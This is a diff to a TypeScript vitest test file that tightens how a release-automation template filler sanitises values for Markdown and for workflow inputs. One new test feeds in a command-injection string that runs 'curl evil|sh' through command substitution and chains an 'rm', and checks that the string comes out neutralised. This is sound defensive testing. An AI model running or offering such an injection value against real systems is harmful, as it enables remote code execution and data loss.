@@ -1,3 +1,4 @@
+import fc from "fast-check";
 import { expect, test } from "vitest";
 import type { ActionContext } from "../../src/lifecycle/actions/action.ts";
 import { ACTIONS, permissionsNeeded, planActions } from "../../src/lifecycle/actions/index.ts";
@@ -52,7 +53,7 @@ test.each([
       kind: "repository_dispatch",
       key: "100-7-a-enter-1000-ready",
       eventType: "ready",
-      payload: { sha: "aaaaaaa1", why: "label x | **now**" },
+      payload: { sha: "aaaaaaa1", why: "label x _ __now__" },
     },
   ],
   ["[{ release: qa }]", { kind: "release", environment: "qa", sha: "aaaaaaa1" }],
@@ -108,13 +109,25 @@ test("an overdue comment does not overwrite that of the entry", () => {
   });
 });
 
-test("values are escaped in Markdown and as they are in inputs", () => {
+test("values are escaped in Markdown, and in inputs keep only what a script may hold", () => {
   expect(fillMarkdown("{{reason}}", values)).toBe("label x \\| \\*\\*now\\*\\*");
-  expect(fill("{{reason}}{{ticket}}", values)).toBe("label x | **now**12");
+  expect(fill("{{reason}}{{ticket}}", values)).toBe("label x _ __now__12");
+});
+
+test("no value brings anything into an input that a shell, YAML or Markdown reads", () => {
+  expect(fill("{{reason}}", { ...values, reason: "$(curl evil|sh) `x` failed\n; rm" })).toBe(
+    "__curl evil_sh_ _x_ failed__ rm",
+  );
+  fc.assert(
+    fc.property(fc.string({ unit: "binary", maxLength: 600 }), (reason) => {
+      const filled = fill("{{reason}}", { ...values, reason });
+      expect(filled).toMatch(/^[\p{L}\p{N} .,:/@#+_-]{0,500}$/u);
+    }),
+  );
 });
 
 test("values are not read as templates again", () => {
-  expect(fill("{{reason}}", { ...values, reason: "{{number}} $&" })).toBe("{{number}} $&");
+  expect(fill("{{reason}}", { ...values, reason: "{{number}} $&" })).toBe("__number__ __");
 });
 
 test.each([
